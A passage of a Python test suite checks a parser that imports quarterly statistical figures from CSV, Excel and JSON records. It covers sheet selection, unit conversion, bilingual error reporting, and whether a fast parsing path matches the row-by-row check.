    assert [r.line for r in result.rows] == [2, 5]


def test_xlsx_formula_with_cached_value_uses_the_value():
    buf = io.BytesIO()
    workbook = xlsxwriter.Workbook(buf, {"in_memory": True})
    sheet = workbook.add_worksheet("data")
    sheet.write_row(0, 0, ["period", "item", "value"])
    sheet.write_row(1, 0, ["2024Q1", "coal_raw"])
    sheet.write_formula(1, 2, "=20+22", None, 42)
    workbook.close()

    result = parse_import_file(buf.getvalue(), "a.xlsx", ITEMS)

    assert result.errors == []
    assert result.rows[0].value == Decimal(42)


def test_xlsx_formula_row_without_any_other_cell_is_not_skipped_as_blank():
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["period", "item", "value"])
    sheet.append(["2024Q1", "coal_raw", 1])
    sheet["C3"] = "=C2*2"
    buf = io.BytesIO()
    workbook.save(buf)

    result = parse_import_file(buf.getvalue(), "a.xlsx", ITEMS)

    assert (3, "value", "formula_without_value") in _errors(result)


@pytest.mark.parametrize(
    ("_case", "sheets", "hidden", "expected_sheet", "ignored"),
    [
        (
            "sheet named 数据 wins",
            {"说明": [["填表说明"]], "数据": [HEADER, ["2024Q1", "coal_raw", 1]]},
            (),
            "数据",
            "说明",
        ),
        (
            "sheet named data wins, any case",
            {"Sheet1": [["x"]], "Data": [HEADER, ["2024Q1", "coal_raw", 1]]},
            (),
            "Data",
            "Sheet1",
        ),
        (
            "first visible sheet otherwise; hidden sheets ignored",
            {"旧数据": [HEADER, ["bad", "bad", "bad"]], "Q1": [HEADER, ["2024Q1", "coal_raw", 1]]},
            ("旧数据",),
            "Q1",
            "旧数据",
        ),
    ],
)
def test_xlsx_sheet_selection(_case, sheets, hidden, expected_sheet, ignored):
    result = parse_import_file(_xlsx(sheets, hidden=hidden), "a.xlsx", ITEMS)

    assert result.errors == []
    assert result.sheet == expected_sheet
    assert [(r.period, r.item_code) for r in result.rows] == [("2024Q1", "coal_raw")]
    (warning,) = result.warnings
    assert warning.code == "sheets_ignored"
    assert ignored in warning.message_zh
    assert ignored in warning.message_en


def test_xlsx_lines_follow_the_sheet_when_the_table_starts_lower():
    content = _xlsx({"data": [[], [], [None, *HEADER[:3]], [None, "2024Q1", "coal_raw", "x"]]})

    result = parse_import_file(content, "a.xlsx", ITEMS)

    assert _errors(result) == [(4, "value", "not_a_number")]


# ---------------------------------------------------------------- JSON records


def test_records_parse_like_file_rows():
    records = [
        {"period": "2024Q3", "item": "coal_raw", "value": 1234.5, "unit": "吨"},
        {"期间": 2024, "指标代码": "straw_utilized", "数值": 12, "备注": "年报"},
        {
            "period": "2024Q3",
            "item": "natural_gas",
            "value": "8,000",
            "unit": "m3",
            "scope": VALID_CODE,
            "ignored": [1, 2],
        },
        {"period": "2024Q3", "item": "iva_current", "value": Decimal("1.5")},
        {"period": "2024Q3", "item": "revenue_food", "value": 0.1},
    ]

    result = parse_import_records(records, ITEMS)

    assert result.errors == []
    assert result.encoding == "json"
    assert [(r.line, r.period, r.item_code, r.value, r.scope) for r in result.rows] == [
        (1, "2024Q3", "coal_raw", Decimal("1234.5"), ""),
        (2, "2024", "straw_utilized", Decimal(12), ""),
        (3, "2024Q3", "natural_gas", Decimal("0.8"), VALID_CODE),
        (4, "2024Q3", "iva_current", Decimal("1.5"), ""),
        (5, "2024Q3", "revenue_food", Decimal("0.1"), ""),
    ]
    assert result.rows[1].note == "年报"


@pytest.mark.parametrize(
    ("_case", "record", "expected"),
    [
        ("not an object", ["2024Q3", "coal_raw", 1], [(1, "", "bad_record")]),
        (
            "empty object",
            {},
            [
                (1, "period", "missing_value"),
                (1, "item", "missing_value"),
                (1, "value", "missing_value"),
            ],
        ),
        (
            "null value",
            {"period": "2024Q3", "item": "coal_raw", "value": None},
            [(1, "value", "missing_value")],
        ),
        (
            "boolean value",
            {"period": "2024Q3", "item": "coal_raw", "value": True},
            [(1, "value", "not_a_number")],
        ),
        (
            "infinite value",
            {"period": "2024Q3", "item": "coal_raw", "value": float("inf")},
            [(1, "value", "not_a_number")],
        ),
        (
            "huge float",
            {"period": "2024Q3", "item": "coal_raw", "value": 1e30},
            [(1, "value", "not_a_number")],
        ),
        (
            "list as item",
            {"period": "2024Q3", "item": ["coal_raw"], "value": 1},
            [(1, "item", "unknown_item")],
        ),
        (
            "key given twice",
            {"period": "2024Q3", "item": "coal_raw", "value": 1, "数值": 2},
            [(1, "数值", "duplicate_column")],
        ),
        (
            "negative",
            {"period": "2024Q3", "item": "coal_raw", "value": -1},
            [(1, "value", "negative")],
        ),
    ],
)
def test_bad_records(_case, record, expected):
    result = parse_import_records([record], ITEMS)

    assert _errors(result) == expected
    _assert_bilingual(result.errors)
    assert result.rows == []


def test_records_duplicate_names_both_records():
    records = [{"period": "2024Q3", "item": "coal_raw", "value": 1}] * 2

    result = parse_import_records(records, ITEMS)

    assert _errors(result) == [(2, "", "duplicate")]
    assert "第1行与第2行重复" in result.errors[0].message_zh


@pytest.mark.parametrize(
    ("_case", "records", "kwargs", "code"),
    [
        ("not a list", {"period": "2024Q3"}, {}, "bad_records"),
        ("empty list", [], {}, "empty"),
        ("over the cap", [{"period": "2024Q3"}] * 3, {"max_rows": 2}, "too_many_rows"),
    ],
)
def test_records_refused_as_a_whole(_case, records, kwargs, code):
    with pytest.raises(ImportFileError) as caught:
        parse_import_records(records, ITEMS, **kwargs)

    assert caught.value.code == code
    assert caught.value.message_zh.strip()
    assert caught.value.message_en.strip()


def test_records_hash_ignores_key_order():
    one = [{"period": "2024Q3", "item": "coal_raw", "value": "1"}]
    two = [{"value": "1", "item": "coal_raw", "period": "2024Q3"}]
    other = [{"period": "2024Q3", "item": "coal_raw", "value": "2"}]

    assert parse_import_records(one, ITEMS).sha256 == parse_import_records(two, ITEMS).sha256
    assert parse_import_records(one, ITEMS).sha256 != parse_import_records(other, ITEMS).sha256
    expected = json.dumps(one, ensure_ascii=False, sort_keys=True, separators=(",", ":"))
    assert parse_import_records(one, ITEMS).sha256 == hashlib.sha256(expected.encode()).hexdigest()


def test_row_and_error_types_are_immutable():
    result = parse_import_file(
        _csv([["2024Q3", "coal_raw", "x"], ["2024Q4", "coal_raw", "1"]]), "a.csv", ITEMS
    )

    assert isinstance(result.errors[0], RowError)
    with pytest.raises(AttributeError):
        result.errors[0].code = "other"
    with pytest.raises(AttributeError):
        result.rows[0].value = Decimal(0)


# ---------------------------------------------------------------- properties

_QUARTER_ITEMS = sorted(code for code, spec in ITEMS.items() if spec.frequency == "quarter")
_keys = st.tuples(
    st.sampled_from(_QUARTER_ITEMS),
    st.integers(min_value=2015, max_value=2030),
    st.integers(min_value=1, max_value=4),
    st.sampled_from(["", VALID_CODE, OTHER_CODE]),
)
_values = st.decimals(min_value=0, max_value=Decimal("1e12"), places=3, allow_nan=False)


@settings(max_examples=60, deadline=None)
@given(
    data=st.data(),
    figures=st.lists(st.tuples(_keys, _values), min_size=1, max_size=40, unique_by=lambda f: f[0]),
)
def test_shuffling_rows_gives_the_same_rows(data, figures):
    rows = [
        [f"{year}Q{quarter}", item, f"{value:,f}", "", scope, f"{item} {value}"]
        for (item, year, quarter, scope), value in figures
    ]
    shuffled = data.draw(st.permutations(rows))

    def content(result):
        return {
            (r.period, r.item_code, r.scope, r.value, r.original_value, r.note) for r in result.rows
        }

    original = parse_import_file(_csv(rows), "a.csv", ITEMS)
    again = parse_import_file(_csv(shuffled), "a.csv", ITEMS)

    assert original.errors == again.errors == []
    assert content(original) == content(again)
    assert len(again.rows) == len(rows)


@settings(max_examples=200, deadline=None)
@given(
    value=st.decimals(
        min_value=Decimal("-1e17"), max_value=Decimal("1e17"), places=6, allow_nan=False
    ),
    separators=st.booleans(),
    full_width=st.booleans(),
)
def test_any_plain_decimal_reads_back_exactly(value, separators, full_width):
    text = f"{value:,f}" if separators else f"{value:f}"
    if full_width:
        text = text.translate(str.maketrans("0123456789.,-", "０１２３４５６７８９．，－"))

    result = parse_import_records(
        [{"period": "2024Q3", "item": "iva_growth_ytd", "value": text}], ITEMS
    )

    assert result.errors == []
    assert result.rows[0].value == value


# ---------------------------------------------------------------- the fast path


def _row_by_row(content: bytes):
    """What the row-by-row check reads (the path every CSV took before the fast path)."""
    text, _encoding = _decode_csv(content)
    return _validate_table(_read_csv_text(text), ITEMS, 100_000)


def _same_as_row_by_row(content: bytes, *, fast: bool) -> None:
    result = parse_import_file(content, "a.csv", ITEMS)
    slow = _row_by_row(content)
    assert (result.columns is not None) == fast
    assert result.errors == slow.errors
    assert result.row_count == len(slow.rows)
    assert result.rows == slow.rows
    # Digit for digit, not only equal: 1.50 stays 1.50.
    assert [r.value.as_tuple() for r in result.rows] == [r.value.as_tuple() for r in slow.rows]


_PLAIN = ["2024Q3", "coal_raw", "12.5", "t", "", ""]


@pytest.mark.parametrize(
    ("rows", "fast"),
    [
        pytest.param(
            [_PLAIN, ["2024Q3", "natural_gas", "0.50", "", "", ""]], True, id="plain_case"
        ),
        pytest.param(
            [
                ["2024q3", "COAL_RAW", "007", "", VALID_CODE.lower(), ""],
                ["2024 Q4", "coal_raw", "+5", "", "", ""],
            ],
            True,
            id="spellings_the_parser_normalises_case",
        ),
        pytest.param(
            [
                ["2024Q3", "coal_raw", "1.2", "万吨", "", ""],
                ["2024Q3", "natural_gas", "8000", "m3", "", ""],
            ],
            True,
            id="units_converted_case",
        ),
        pytest.param(
            [["2024Q3", "iva_growth_ytd", "-1.50", "%", "", ""]], True, id="negative_growth_case"
        ),
        pytest.param(
            [
                ["2024Q3", "coal_raw", "1", "", "", "  a\tb\x07c "],
                ["2024Q4", "coal_raw", "2", "", "", "备注"],
            ],
            True,
            id="notes_cleaned_case",
        ),
        pytest.param(
            [["2024Q3", "coal_raw", "1", "", "", "a, b"]],
            False,
            id="quoted_note_takes_the_csv_module_case",
        ),
        pytest.param(
            [["2024Q3", "iva_growth_ytd", "-0.00", "", "", ""]], False, id="negative_zero_case"
        ),
        pytest.param([["2024Q3", "coal_raw", "-1", "", "", ""]], False, id="negative_refused_case"),
        pytest.param([["2024Q3", "coal_raw", "1,234.5", "", "", ""]], False, id="separators_case"),
        pytest.param([["2024Q3", "coal_raw", "1e5", "", "", ""]], False, id="exponent_case"),
        pytest.param([["2024Q3", "coal_raw", "1.1234567", "", "", ""]], False, id="places_case"),
        pytest.param(
            [["2024Q3", "coal_raw", "1.5000000", "", "", ""]], False, id="trailing_zeros_case"
        ),
        pytest.param([["2024Q3", "coal_raw", "", "", "", ""]], False, id="empty_value_case"),
        pytest.param([_PLAIN, _PLAIN], False, id="duplicate_case"),
        pytest.param(
            [_PLAIN, ["2024q3", "COAL_RAW", "1", "", "", ""]],
            False,
            id="duplicate_in_other_spelling_case",
        ),
        pytest.param([["2024", "coal_raw", "1", "", "", ""]], False, id="frequency_case"),
        pytest.param([["2024Q3", "coal", "1", "", "", ""]], False, id="unknown_item_case"),
        pytest.param([["2024Q3", "coal_raw", "1", "kWh", "", ""]], False, id="bad_unit_case"),
        pytest.param(
            [["2024Q3", "coal_raw", "1", "", "91350100M000100Y44", ""]], False, id="bad_scope_case"
        ),
        pytest.param([["2024Q3", "coal_raw", "1", "", "", "x" * 1001]], False, id="long_note_case"),
        pytest.param(
            [_PLAIN, ["", "", "", "", "", ""], [*_PLAIN[:2], "3", *_PLAIN[3:]]],
            False,
            id="blank_row_case",
        ),
        pytest.param([_PLAIN, ["2024Q4", "coal_raw"]], False, id="short_row_case"),
    ],
)
def test_the_fast_path_reads_exactly_what_the_row_by_row_check_reads(rows, fast):
    _same_as_row_by_row(_csv(rows), fast=fast)


def test_the_fast_path_keeps_spreadsheet_lines_with_lf_and_wider_rows():
    content = b"period,item,value,extra\n2024Q3,coal_raw,1,x\n2024Q4,coal_raw,2,y,z\n"

    result = parse_import_file(content, "a.csv", ITEMS)

    assert result.columns is not None
    assert [(r.line, r.value) for r in result.rows] == [(2, Decimal(1)), (3, Decimal(2))]
    _same_as_row_by_row(content, fast=True)


_ANY_PERIOD = st.sampled_from(["2024Q3", "2024q4", "2024 Q1", "2024", "2024年第2季度", "", "24Q3"])
_ANY_ITEM = st.sampled_from(["coal_raw", "Coal_Raw", "iva_growth_ytd", "straw_utilized", "x", ""])
_ANY_VALUE = st.one_of(
    st.decimals(min_value=-(10**17), max_value=10**17, places=6, allow_nan=False).map(
        lambda d: f"{d:f}"
    ),
    st.sampled_from(["0", "-0", "+0.0", "007", "1.", ".5", "1,000", " 1", "1e3", "", "１２"]),
)
_ANY_UNIT = st.sampled_from(["", "t", "吨", "万吨", "kg", "%", "kWh", " t "])
_ANY_SCOPE = st.sampled_from(["", VALID_CODE, VALID_CODE.lower(), OTHER_CODE, "123"])
_ANY_NOTE = st.text(alphabet="ab ,\t\x07\u202e中", max_size=6)


@settings(max_examples=150, deadline=None)
@given(
    rows=st.lists(
        st.tuples(_ANY_PERIOD, _ANY_ITEM, _ANY_VALUE, _ANY_UNIT, _ANY_SCOPE, _ANY_NOTE).map(list),
        min_size=1,
        max_size=12,
    )
)
def test_any_table_reads_the_same_on_both_paths(rows):
    content = _csv(rows)
    result = parse_import_file(content, "a.csv", ITEMS)
    slow = _row_by_row(content)

    assert result.errors == slow.errors
    assert result.rows == slow.rows
    assert [r.value.as_tuple() for r in result.rows] == [r.value.as_tuple() for r in slow.rows]
